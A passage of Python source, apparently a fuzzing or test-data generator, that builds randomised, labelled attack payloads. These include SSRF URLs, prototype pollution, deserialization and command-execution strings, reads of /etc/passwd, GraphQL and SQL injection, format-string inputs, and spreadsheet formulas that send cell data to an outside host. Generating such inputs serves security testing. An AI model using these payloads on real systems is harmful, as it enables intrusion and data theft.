    return pick(f"http://{place}{tail}", f"https://{place}{tail}", f"gopher://{place}:{R.randint(20, 9999)}/_{word()}%0d%0a", f"dict://{place}:{R.randint(20, 9999)}/info", f"ftp://{place}{tail}", f"http://{word()}@{place}{tail}", f"http://{place}{tail}#{word()}", f"//{place}{tail}", f"ldap://{place}:389/%0astats", f"tftp://{place}:69/{word()}", f"netdoc://{R.choice(FILES)}", f"sftp://{host()}:{number()}/", f"file://{place}{R.choice(FILES)}", f"http://{host()}@{place}{tail}")


def pollution():
    return pick(f"__proto__[{word()}]={word()}", f"{{\"__proto__\":{{\"{word()}\":\"{word()}\"}}}}", f"constructor[prototype][{word()}]={word()}", f"{{\"constructor\":{{\"prototype\":{{\"{word()}\":true}}}}}}", f"__proto__.{word()}", f"{{\"__proto__\":{{\"shell\":\"node\",\"NODE_OPTIONS\":\"--inspect={host()}\"}}}}",
                f"require('child_process').exec('{unix_command()}')", f"global.process.mainModule.require('child_process').execSync('id')", f"process.exit()", f"res.end(require('fs').readFileSync('/etc/passwd'))", f"_$$ND_FUNC$$_function(){{require('child_process').exec('ls')}}()", f"process.env.{word().upper()}",
                f"__import__('os').system('{unix_command()}')", f"eval(compile('import os','x','exec'))", f"cos\nsystem\n(S'id'\ntR.", f"!!python/object/apply:os.system ['id']", f"!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://{host()}\"]]]]", f"exec('import os')", f"open('/etc/passwd').read()", f"--- !ruby/object:Gem::Requirement", f"eval(\"{word()}\")")


def graph():
    return pick("{__schema{types{name}}}", "query IntrospectionQuery{__schema{queryType{name}mutationType{name}types{...FullType}}}", f"{{__type(name:\"{word()}\"){{name fields{{name type{{name}}}}}}}}", f"query{{__typename {' '.join(f'a{i}:__typename' for i in range(R.randint(5, 20)))}}}", f"{{{word()}(id:\"1' or '1'='1\"){{id}}}}", f"mutation{{{word()}(input:\"{sql_boolean()}\"){{id}}}}", "fragment x on y{...x}", f"query {{ {word()}(search: \"') UNION SELECT {number()}--\") {{ id }} }}", "{\"query\":\"{__schema{directives{name}}}\"}")


def formats():
    return pick("%s%s%s%s%s%s%n", "%x%x%x%x", "%p%p%p%p%p", "%08x." * R.randint(2, 8), "AAAA%08x.%08x.%n", "%n%n%n%n", "%d%d%d%d%s", "A" * R.randint(300, 900), "\x90" * 20, "%99999999s", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://%s\",\"x\")" % host(), "@SUM(1+1)*cmd|' /C calc'!A0", "+cmd|' /C powershell'!A0", "=IMPORTXML(CONCAT(\"http://%s/?\",A1),\"//a\")" % host(), "-2+3+cmd|' /C calc'!A0")


CLASSES = {
    "sql": (sql, 5), "xss": (xss, 6), "shell": (shell, 5), "traversal": (traversal, 2), "absolute": (absolute, 1), "include": (include, 1), "php": (php_code, 2), "jndi": (jndi, 2), "expression": (expression, 2),
    "template": (template, 3), "xml": (xml, 2), "ldap": (ldap, 1), "nosql": (nosql, 2), "header": (header, 2), "inside": (inside, 1), "pollution": (pollution, 1), "graph": (graph, 1), "formats": (formats, 1),
}


def values(count, seed):
    """So many (class, value)."""
    R.seed(seed)
    names = [name for name, (_, weight) in CLASSES.items() for _ in range(weight)]
    for _ in range(count):
        name = R.choice(names)
        yield name, CLASSES[name][0]()
